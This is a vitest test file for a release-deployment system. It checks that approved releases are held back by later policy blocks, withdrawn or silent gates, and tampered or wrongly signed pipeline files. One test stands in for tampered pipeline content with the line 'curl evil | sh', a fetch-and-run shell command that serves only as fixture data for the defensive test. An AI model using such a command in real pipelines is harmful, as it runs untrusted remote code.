/** What blocks a release that is approved already: an enforcer's word, and gates of the tenant's own, asked again. */
import { generateKeyPairSync, type KeyObject, sign } from "node:crypto";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { pipelineDigests } from "../../src/agents/pipeline-files.ts";
import { writeVouching } from "../../src/agents/vouched-for.ts";
import { envelopeBytes } from "../../src/domain/audit/dsse-bundle.ts";
import { sha256 } from "../../src/domain/canonical-json.ts";
import { pipelineSnapshot, type SnapshotFile } from "../../src/domain/pipeline/pipeline-snapshot.ts";
import { vouchingStatement } from "../../src/domain/supply-chain/signed-subjects.ts";
import { tenantSchema } from "../../src/domain/tenant/tenant.ts";
import { fakeContext } from "../support/agent-context.ts";
import { samplePipelineModel } from "../support/pipeline-model.ts";
import { createTestSigner } from "../support/votes.ts";
import { createRuntimeRig, greeter, names, place, type RuntimeRig } from "./runtime-rig.ts";

let rig: RuntimeRig;
beforeAll(async () => {
  rig = await createRuntimeRig();
});
afterAll(() => rig.dispose());

const { gates, evidence } = tenantSchema.parse({
  id: "acme",
  people: [{ id: "jane", roles: [] }],
  environments: [{ id: "production" }],
  gates: [{ name: "change-board", http: { url: "http://127.0.0.1:1/" } }],
  evidence: { producers: [{ id: "enforcer", kinds: ["policy"] }] },
});

async function approved(traceId: string) {
  const delivery = rig.delivery(
    traceId,
    "1.0.0",
    await rig.fixture.artifact({ "server.js": greeter("one") }),
  );
  await delivery.approve();
  return delivery;
}

test("a block that came after the approval keeps the release from being applied, by name, until it is lifted", async () => {
  rig.setGates({ evidence, gates: [] });
  const delivery = await approved("trace-1");
  const reasons = [{ code: "Malware", message: "left-pad is known malware" }];
  const source = "/security/enforcer";
  delivery.tell("PolicyBlocked", { tree: "another", reasons }, { id: "block-0", source, sequence: 40 });
  delivery.tell("PolicyBlocked", { tree: "7ree", reasons }, { source: "/security/stranger", sequence: 41 });
  delivery.tell("PolicyBlocked", { tree: "7ree", reasons }, { id: "block-1", source, sequence: 42 });
  const { outcome, context } = await delivery.deploy();
  expect(outcome.emits).toMatchObject([
    {
      name: "ReleaseDelayed",
      data: {
        reasons: [
          {
            code: "PolicyBlocked",
            message: "shop is blocked by /security/enforcer: left-pad is known malware (block-1).",
            next: "Mend what it names and hand the module over again.",
          },
        ],
      },
    },
  ]);
  expect(context.announced).toEqual([]);
  expect(await rig.ledger.current(place)).toBeUndefined();
  delivery.tell("PolicyBlocked", { tree: "7ree", lifted: true, reasons: [] }, { source, sequence: 43 });
  expect(names((await delivery.deploy()).outcome)).toEqual(["DeploymentCompleted"]);
});

test("a gate that let the release pass and blocks it now is heard, and its new answer stands", async () => {
  rig.setGates({ gates, answer: { answer: { status: "passed", reason: "CHG-17 is approved" } } });
  const delivery = await approved("trace-2");
  rig.setGates({ answer: { answer: { status: "failed", reason: "CHG-17 was withdrawn" } } });
  const { outcome } = await delivery.deploy();
  const message = "The gate change-board blocks it: CHG-17 was withdrawn.";
  expect(outcome.emits).toMatchObject([
    { name: "ReleaseDelayed", data: { reasons: [{ code: "PolicyBlocked", message }] } },
  ]);
  expect(delivery.events.at(-2)).toMatchObject({ name: "GateAnswered", data: { status: "failed" } });
});

test("while a gate says nothing the release waits, keeps nobody else waiting, and goes on when it is answered", async () => {
  rig.setGates({ gates, answer: { why: "it cannot be reached (ECONNREFUSED)" } });
  const delivery = await approved("trace-3");
  const { outcome } = await delivery.deploy({ invocationId: "silent" });
  expect(outcome).toMatchObject({
    status: "Delayed",
    summary: "The gate change-board gave no answer: it cannot be reached (ECONNREFUSED).",
    emits: [],
    wakeOn: expect.arrayContaining(["PolicyBlocked"]),
    until: expect.any(String),
  });
  rig.setGates({ gates: [] });
  const other = await approved("trace-4");
  expect(names((await other.deploy()).outcome)).toEqual(["DeploymentCompleted"]);
  rig.setGates({ gates, answer: { answer: { status: "passed", reason: "" } } });
  expect(names((await delivery.deploy({ invocationId: "silent" })).outcome)).toEqual(["DeploymentCompleted"]);
});

describe("pipeline files that were signed when the release was approved", () => {
  const listed = [fileOf("azure")];
  const snapshot = "pipelines/PipelineSnapshot.yaml";
  const signature = "pipelines/PipelineSignature.sigstore.json";

  async function signedAndApproved(traceId: string, signer = rig.signer) {
    const delivery = await approved(traceId);
    const { memory } = delivery;
    memory[snapshot] = snapshotOf(traceId, listed);
    const context = fakeContext({ invocation: { ...place, traceId } });
    await writeVouching(signer, context, {
      kind: "pipeline",
      digests: pipelineDigests(listed, "7ree"),
    });
    memory[signature] = context.written[signature] ?? "";
    return delivery;
  }

  const kept = (message: string) => ({
    emits: [
      {
        name: "ReleaseDelayed",
        data: {
          reasons: [
            {
              code: "UnsignedPipeline",
              message: expect.stringContaining(message),
              next: "Rebuild the pipeline: connectsoft rebuild",
            },
          ],
        },
      },
    ],
  });

  beforeAll(() => rig.setPolicy({ requireSignedPipelines: true }));
  afterEach(() => rig.setGates({ gates: [], evidence }));
  afterAll(() => rig.setPolicy(undefined));

  test("are applied where they are the same still", async () => {
    const delivery = await signedAndApproved("trace-10");
    expect(names((await delivery.deploy()).outcome)).toEqual(["DeploymentCompleted"]);
  });

  test("keep the release from being applied where they were changed since", async () => {
    const delivery = await signedAndApproved("trace-11");
    delivery.memory[snapshot] = snapshotOf("trace-11", [fileOf("curl evil | sh")]);
    expect((await delivery.deploy()).outcome).toMatchObject(
      kept("azure-pipelines.yaml is not what was signed"),
    );
  });

  test("keep it where the signature is a stranger's now, or gone", async () => {
    const delivery = await signedAndApproved("trace-12", createTestSigner());
    expect((await delivery.deploy()).outcome).toMatchObject(kept("The pipeline files are not signed"));
    delete delivery.memory[signature];
    expect((await delivery.deploy()).outcome).toMatchObject(kept("The pipeline files are not signed"));
  });

  test("keep it where who signed them is listed no more", async () => {
    const acme = generateKeyPairSync("ec", { namedCurve: "P-256" });
    const pem = (key: KeyObject) => key.export({ type: "spki", format: "pem" }).toString();
    const withSigner = tenantSchema.parse({
      id: "acme",
      people: [{ id: "jane", roles: [] }],
      environments: [{ id: "production" }],
      evidence: {
        producers: [{ id: "desk", kinds: ["signature"] }],
        signers: [{ id: "acme", key: pem(acme.publicKey), for: ["pipelines"] }],
      },
    }).evidence;
    rig.setGates({ gates: [], evidence: withSigner });
    const delivery = await signedAndApproved("trace-13");
    delete delivery.memory[signature];
    const of = { ...place, traceId: "trace-13" };
    const statement = vouchingStatement({ kind: "pipeline", of, digests: pipelineDigests(listed, "7ree") });
    const text = JSON.stringify({
      payload: Buffer.from(statement).toString("base64"),
      payloadType: "application/vnd.in-toto+json",
      signatures: [
        { keyid: "", sig: sign("sha256", envelopeBytes(statement), acme.privateKey).toString("base64") },
      ],
    });
    const file = "evidence/desk/signatures/pipelines.sig";
    delivery.memory[`supply-chain/${file}`] = text;
    const data = { commit: "c0ffee", tree: "7ree", reportDigest: sha256(text), producer: "desk", file };
    delivery.tell("SignatureAdded", data, { source: "/ci/desk" });
    rig.setGates({ evidence: { ...withSigner, signers: [] } });
    expect((await delivery.deploy()).outcome).toMatchObject(kept("The pipeline files are not signed"));
    rig.setGates({ evidence: withSigner });
    expect(names((await delivery.deploy()).outcome)).toEqual(["DeploymentCompleted"]);
  });
});

function fileOf(content: string): SnapshotFile {
  return { path: "azure-pipelines.yaml", origin: "generated", digest: sha256(content) };
}

function snapshotOf(traceId: string, files: SnapshotFile[]): string {
  return pipelineSnapshot(
    { ...place, traceId },
    { model: samplePipelineModel(), head: { commit: "c0ffee", tree: "7ree" }, files },
  );
}
